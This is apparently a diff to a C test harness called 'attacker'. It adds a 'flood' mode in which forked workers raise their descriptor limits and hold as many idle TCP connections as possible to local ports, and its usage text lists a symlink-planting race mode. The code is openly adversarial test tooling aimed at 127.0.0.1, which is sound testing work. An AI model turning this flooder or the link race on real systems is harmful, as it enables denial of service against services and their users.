@@ -29,6 +29,14 @@
  *         terminated  claims proxy 0, then PROCESS_TERMINATED of rank 1
  *       keeping each connection HOLD seconds (2) after its last send; what
  *       each connection received is appended to DUMP
+ *   attacker flood SECONDS WORKERS PORT...
+ *       floods the TCP ports PORT... of this node (127.0.0.1) with
+ *       connections that never answer: WORKERS processes each open as many
+ *       as they can hold (their descriptor limit raised to its hard limit)
+ *       and open another as soon as one is closed by the other side, for
+ *       SECONDS; a challenge that comes is read and ignored. Prints
+ *       "flooded ...: O connections opened, C closed by the other side, at
+ *       most H held at once".
  *   attacker links DIR NAME AHEAD TARGET STOPFILE LOG
  *       plants symbolic links DIR/NAME.<pid> -> TARGET for the AHEAD pids
  *       after /proc/sys/kernel/ns_last_pid, and keeps AHEAD ahead of it,
@@ -65,6 +73,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mman.h>
+#include <sys/resource.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -466,6 +476,104 @@ static int cmd_control(const char *mode, const char *snapfile, const char *dumpf
     return 0;
 }
 
+/* ---- flooding a port ---------------------------------------------------- */
+
+struct flood_count {
+    long opened, closed, held, most;
+};
+
+/* One worker: keeps as many connections open as its descriptors allow. */
+static void flood_worker(const unsigned *ports, int nports, double until, struct flood_count *c)
+{
+    struct rlimit rl;
+    struct pollfd *fds;
+    int n = 0, cap, next_port = 0, opening = 1;
+
+    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
+        rl.rlim_cur = rl.rlim_max;
+        setrlimit(RLIMIT_NOFILE, &rl);
+    }
+    getrlimit(RLIMIT_NOFILE, &rl);
+    cap = rl.rlim_cur > 65536 ? 65536 - 16 : (int) rl.rlim_cur - 16;
+    fds = calloc(cap, sizeof(*fds));
+    if (fds == NULL)
+        return;
+    while (now() < until) {
+        /* a burst of new connections, then a look at the held ones */
+        for (int k = 0; opening && k < 64 && n < cap; k++) {
+            struct sockaddr_in a = {.sin_family = AF_INET,
+                .sin_port = htons(ports[next_port++ % nports]),
+                .sin_addr.s_addr = htonl(INADDR_LOOPBACK)
+            };
+            int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+            if (fd < 0) {
+                opening = 0;    /* out of descriptors until one closes */
+                break;
+            }
+            if (connect(fd, (struct sockaddr *) &a, sizeof(a)) != 0 && errno != EINPROGRESS) {
+                close(fd);
+                break;
+            }
+            fds[n++] = (struct pollfd) {.fd = fd,.events = POLLIN };
+            c->opened++;
+        }
+        c->held = n;
+        if (n > c->most)
+            c->most = n;
+        if (poll(fds, n, 1) <= 0)
+            continue;
+        for (int i = 0; i < n; i++) {
+            char buf[256];
+            if (!fds[i].revents)
+                continue;
+            if (!(fds[i].revents & (POLLHUP | POLLERR)) && read(fds[i].fd, buf, sizeof(buf)) > 0)
+                continue;
+            close(fds[i].fd);
+            fds[i--] = fds[--n];
+            c->closed++;
+            opening = 1;
+        }
+    }
+    for (int i = 0; i < n; i++)
+        close(fds[i].fd);
+    free(fds);
+}
+
+static int cmd_flood(double seconds, int workers, unsigned *ports, int nports)
+{
+    struct flood_count *counts, sum = { 0, 0, 0, 0 };
+    pid_t child[64];
+    double until = now() + seconds;
+
+    if (workers < 1 || workers > 64 || nports < 1)
+        return 1;
+    counts = mmap(NULL, workers * sizeof(*counts), PROT_READ | PROT_WRITE,
+                  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    if (counts == MAP_FAILED)
+        return 1;
+    memset(counts, 0, workers * sizeof(*counts));
+    for (int w = 0; w < workers; w++) {
+        child[w] = fork();
+        if (child[w] == 0) {
+            flood_worker(ports, nports, until, &counts[w]);
+            _exit(0);
+        }
+    }
+    for (int w = 0; w < workers; w++) {
+        if (child[w] > 0)
+            waitpid(child[w], NULL, 0);
+        sum.opened += counts[w].opened;
+        sum.closed += counts[w].closed;
+        sum.most += counts[w].most;
+    }
+    printf("attacker: flooded port(s)");
+    for (int i = 0; i < nports; i++)
+        printf(" %u", ports[i]);
+    printf(" for %.0f s with %d worker(s): %ld connections opened, %ld closed by the other "
+           "side, at most %ld held at once\n", seconds, workers, sum.opened, sum.closed, sum.most);
+    return sum.opened ? 0 : 2;
+}
+
 /* ---- planted links ------------------------------------------------------ */
 
 static long read_long(const char *file)
@@ -638,6 +746,13 @@ int main(int argc, char **argv)
         return cmd_heartbeat(argv[2], argv[3], atoi(argv[4]));
     if ((argc == 6 || argc == 7) && !strcmp(argv[1], "control"))
         return cmd_control(argv[2], argv[3], argv[4], atoi(argv[5]), argc == 7 ? atof(argv[6]) : 2.0);
+    if (argc >= 5 && !strcmp(argv[1], "flood")) {
+        unsigned ports[MAX_SOCKS];
+        int nports = 0;
+        for (int i = 4; i < argc && nports < MAX_SOCKS; i++)
+            ports[nports++] = (unsigned) atoi(argv[i]);
+        return cmd_flood(atof(argv[2]), atoi(argv[3]), ports, nports);
+    }
     if (argc == 8 && !strcmp(argv[1], "links"))
         return cmd_links(argv[2], argv[3], atol(argv[4]), argv[5], argv[6], argv[7]);
     if (argc == 5 && !strcmp(argv[1], "swap"))
@@ -646,6 +761,7 @@ int main(int argc, char **argv)
         return cmd_shm(argv[2]);
     fprintf(stderr, "usage: attacker snapshot FILE | heartbeat SNAPSHOT COMM NPROCS |\n"
             "  control unknown|read|hangup|declared|terminated SNAPSHOT DUMP NPROCS [HOLD] |\n"
+            "  flood SECONDS WORKERS PORT... |\n"
             "  links DIR NAME AHEAD TARGET STOPFILE LOG | swap DIR NAME TARGET | shm COMM\n");
     return 1;
 }
